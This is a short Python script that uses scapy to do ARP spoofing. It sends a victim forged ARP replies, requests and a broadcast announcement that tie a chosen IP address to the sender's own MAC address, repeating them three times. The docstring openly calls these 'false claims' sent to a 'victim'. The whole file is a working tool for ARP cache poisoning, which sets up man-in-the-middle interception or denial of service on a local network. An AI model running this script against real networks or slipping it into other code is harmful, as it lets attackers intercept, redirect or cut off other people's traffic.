"""Sends false claims about an address to a victim: spoof.py INTERFACE VICTIM-MAC VICTIM-IP CLAIMED-IP

The claims are an ARP reply, a request and an announcement, each from the interface's own MAC.
"""

import sys

from scapy.all import ARP, Ether, get_if_hwaddr, sendp

interface, victim_mac, victim_ip, claimed_ip = sys.argv[1:]
liar = get_if_hwaddr(interface)
lie = {"hwsrc": liar, "psrc": claimed_ip}
to_victim = Ether(src=liar, dst=victim_mac)
to_all = Ether(src=liar, dst="ff:ff:ff:ff:ff:ff")
sendp(
    [
        to_victim / ARP(op=2, hwdst=victim_mac, pdst=victim_ip, **lie),
        to_victim / ARP(op=1, pdst=victim_ip, **lie),
        to_all / ARP(op=1, pdst=claimed_ip, **lie),
    ]
    * 3,
    iface=interface,
    verbose=False,
)
